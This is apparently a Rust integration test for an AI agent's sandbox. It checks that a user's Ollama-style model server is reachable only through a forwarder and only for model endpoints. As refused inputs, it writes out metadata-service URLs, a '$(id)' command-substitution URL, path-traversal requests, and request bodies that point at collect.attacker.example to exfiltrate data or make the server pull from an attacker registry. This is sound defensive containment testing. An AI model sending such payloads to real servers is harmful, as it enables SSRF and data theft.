//! A model server of the user's (`run --model-server`) is a hole the user makes in the sandbox
//! on purpose: the sandbox's forwarder alone reaches its address and port, with the model's
//! requests alone. The attack is to reach more through it: the server's other ports, the rest of
//! the user's network, the server directly past the forwarder, or the server's own endpoints
//! that reach out (Ollama's pull and push name a registry). NET_ADMIN, private networks.

use sandbox_tests::assert::assert_blocked;
use sandbox_tests::docker::TestNet;
use sandbox_tests::launcher::{Launcher, Project};
use sandbox_tests::peers::{PEER_HTTP, Peer, PeerSpec};
use sandbox_tests::sandbox::Sandbox;

net_admin! {
    [single, sidecar, gvisor] {
        /// The forwarder alone reaches the server, with the model's endpoints alone: the agent,
        /// trying every other way into the network the server is on, reaches neither the server
        /// itself (its port, its other ports), nor any other host of the network on the server's
        /// port or its own, by address or by name; through the forwarder, the server's pull,
        /// push, create and delete never reach it, nor a path out of the allowed ones. The
        /// variables the image declares reach the agent's processes past the key scrub, pointed
        /// at the forwarder. Positive control: the model's requests through the forwarder reach
        /// the server's port.
        #[tokio::test]
        async fn a_model_server_is_reached_through_the_forwarder_with_the_models_requests_alone() -> anyhow::Result<()> {
            let shell = sandbox_tests::images::image("shell").await?;
            // The user's network: the engine's private ranges.
            let net = TestNet::create_private("model-server").await?;
            let dns = Peer::start_dns(&net).await?;
            let server = Peer::start_model_server(&net).await?;
            // Another host of the network, listening on the server's port too: a connection let
            // through would be answered, and logged.
            let lan = PeerSpec::named(&["lan-host"]).option("--http").option("11434").start(&net).await?;
            let (launcher, project) = (Launcher::new()?, Project::new()?);
            // What no sandbox opens, even for the user: a server at a cloud's metadata service,
            // a link-local address, a URL with more than a server in it, or one for an agent
            // whose CLI cannot use one. Refused before anything is made.
            let gemini = sandbox_tests::images::image("gemini").await?;
            for (image, url, said) in [
                (&shell, "http://169.254.169.254".to_string(), "a cloud metadata service's address"),
                (&shell, "http://169.254.10.1:11434".into(), "a loopback or link-local address"),
                (&shell, format!("http://{}:11434/$(id)", server.ipv4), "has no place in a model server's URL"),
                // This host's loopback, spelt as a number some clients read as a name.
                (&shell, "http://2130706433:11434".into(), "an address in another form"),
                (&shell, "http://[fd00:ec2::23]".into(), "a cloud metadata service's address"),
                (&shell, format!("http://{}:53", server.ipv4), "port 53 is DNS's"),
                // A public address, opened with no name checked, is every site fronted there.
                (&shell, "http://198.51.100.7:11434".into(), "is a public address"),
                (&gemini, format!("http://{}:11434", server.ipv4), "cannot use a model server of yours"),
            ] {
                let out = launcher
                    .run(&[
                        "run", "shell", &project.path, "--detach", "--network", &net.name, "--image", image,
                        "--model-server", &url, "--model", "coder:7b",
                    ])
                    .await?;
                assert_eq!(out.code, 64, "{url}: {out:?}");
                assert!(out.stderr.contains(said), "{url}: {out:?}");
                assert!(project.containers().await?.is_empty(), "{url}: a refused run left a container");
            }
            let url = format!("http://{}:11434", server.ipv4);
            launcher
                .ok(&[
                    "run", "shell", &project.path, "--detach", "--network", &net.name, "--dns",
                    &dns.ipv4.to_string(), "--image", &shell, "--model-server", &url, "--model", "coder:7b",
                ])
                .await?;
            let (id, name) = project.sandbox().await?;
            let sb = Sandbox::adopt(&id).await?;

            // Positive control: the model's requests, through the forwarder, reach the server's port.
            let forwarder = sandbox_init::policy::model::PORT.to_string();
            let models = post(&sb, &forwarder, "GET", "/v1/models", "").await?;
            let chat = post(&sb, &forwarder, "POST", "/v1/chat/completions", r#"{"model":"coder:7b","messages":[]}"#).await?;
            let served = server.log().await?;
            for path in ["/v1/models", "/v1/chat/completions"] {
                assert!(
                    served.iter().any(|l| l.starts_with("http 11434 ") && l.contains(&format!(" path={path}"))),
                    "{path} did not reach the server's port through the forwarder: {models} / {chat}\n{served:#?}"
                );
            }
            let env = launcher
                .ok(&["exec", &name, "--", "sh", "-c", "echo $OPENAI_BASE_URL $OPENAI_API_KEY $OPENAI_MODEL"])
                .await?;
            assert_eq!(env.stdout.trim(), format!("http://127.0.0.1:{forwarder}/v1 local coder:7b"), "{env:?}");

            // The attack through the forwarder: what an Ollama does beyond the model (a pull or
            // push names a registry, the host of the agent's choosing), and paths bent past the
            // allowed ones.
            for (method, path) in [
                ("POST", "/api/pull"),
                ("POST", "/api/push"),
                ("POST", "/api/create"),
                ("POST", "/api/copy"),
                ("DELETE", "/api/delete"),
                ("POST", "/api/blobs/sha256:00"),
                ("POST", "/v1/chat/completions/../../api/pull"),
                ("POST", "/v1/chat/completions%2f..%2f..%2fapi%2fpull"),
                ("POST", "/API/PULL"),
                ("GET", "/"),
            ] {
                let body = r#"{"model":"collect.attacker.example/c2VjcmV0/m:1","insecure":true}"#;
                let answer = post(&sb, &forwarder, method, path, body).await?;
                // The forwarder's refusal (403, or 400 for a path it will not read), not the server's 404.
                assert!(
                    answer.starts_with("HTTP/1.1 403") || answer.starts_with("HTTP/1.1 400"),
                    "{method} {path} was not refused by the forwarder: {answer}"
                );
            }
            // Allowed endpoints, with a body that makes the server reach out: a link it (or a proxy
            // behind it) would fetch, a tool it runs itself (Ollama's web search goes to
            // ollama.com), another model (Ollama sends `…:cloud` models to ollama.com), the model's
            // key in another case (Go's JSON reader takes it), a body it cannot read.
            for body in [
                r#"{"model":"coder:7b","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"http://collect.attacker.example/p.png?d=c2VjcmV0"}}]}]}"#,
                r#"{"model":"coder:7b","messages":[{"role":"user","content":[{"type":"audio_url","audio_url":{"url":"http://collect.attacker.example/a.wav"}}]}]}"#,
                r#"{"model":"coder:7b","messages":[],"tools":[{"type":"mcp","server_url":"http://collect.attacker.example/mcp"}]}"#,
                r#"{"model":"coder:7b","messages":[],"tools":[{"type":"web_search_20250305","name":"web_search"}]}"#,
                r#"{"model":"gpt-oss:120b:cloud","messages":[]}"#,
                r#"{"model":"coder:7b","MODEL":"x:cloud","messages":[]}"#,
                r#"{"model":"coder:7b","model":"x:cloud","messages":[]}"#,
            ] {
                let answer = post(&sb, &forwarder, "POST", "/v1/chat/completions", body).await?;
                assert!(
                    answer.starts_with("HTTP/1.1 403") || answer.starts_with("HTTP/1.1 400"),
                    "{body} was not refused by the forwarder: {answer}"
                );
            }
            for (method, path) in [("POST", "/api/experimental/web_fetch"), ("POST", "/api/experimental/web_search"), ("GET", "/api/me")] {
                let answer = post(&sb, &forwarder, method, path, r#"{"model":"coder:7b"}"#).await?;
                assert!(answer.starts_with("HTTP/1.1 403"), "{method} {path}: {answer}");
            }
            let served = server.log().await?;
            let reached: Vec<&String> = served
                .iter()
                .filter(|l| l.starts_with("http 11434 ") && !l.contains(" path=/v1/models") && !l.contains(" path=/v1/chat/completions "))
                .collect();
            assert!(reached.is_empty(), "the forwarder sent on what it should refuse: {reached:#?}");

            // The attack past the forwarder: the server itself, and the rest of the network.
            for target in [
                format!("{}:11434", server.ipv4),
                format!("{}:{PEER_HTTP}", server.ipv4),
                format!("{}:443", server.ipv4),
                format!("{}:11434", lan.ipv4),
                format!("{}:{PEER_HTTP}", lan.ipv4),
                "model-server:11434".to_string(),
                "lan-host:80".to_string(),
            ] {
                assert_blocked(&sb, &target).await?;
            }
            // Nor UDP or ICMP to the server's address.
            let udp = sb.probe(&["udp", &server.ipv4.to_string(), &sandbox_tests::peers::PEER_UDP.to_string()]).await?;
            assert_eq!(udp.outcome(), "not-permitted", "UDP to the server: {:?}", udp.fields);
            let icmp = sb.probe(&["icmp", &server.ipv4.to_string(), "--timeout-ms", "1000"]).await?;
            assert_ne!(icmp.outcome(), "reply", "ICMP to the server: {:?}", icmp.fields);
            assert!(
                !lan.log().await?.iter().any(|l| l.starts_with("http ")),
                "a request reached the other host: {:?}",
                lan.log().await?
            );
            Ok(())
        }
    }
}

/// A request to the forwarder at 127.0.0.1:`port`, as the agent: the answer's status line.
async fn post(sb: &Sandbox, port: &str, method: &str, path: &str, body: &str) -> anyhow::Result<String> {
    let request = if body.is_empty() {
        format!("{method} {path} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
    } else {
        format!(
            "{method} {path} HTTP/1.1\\r\\nHost: x\\r\\nContent-Type: application/json\\r\\nContent-Length: {}\\r\\n\\r\\n{body}",
            body.len()
        )
    };
    let probe =
        sb.probe(&["tcp", "127.0.0.1", port, "--raw", "--send", &request, "--timeout-ms", "10000"]).await?;
    let answer = probe.fields.get("greeting").cloned().unwrap_or_default();
    Ok(answer.split("\\n").next().unwrap_or_default().to_string())
}
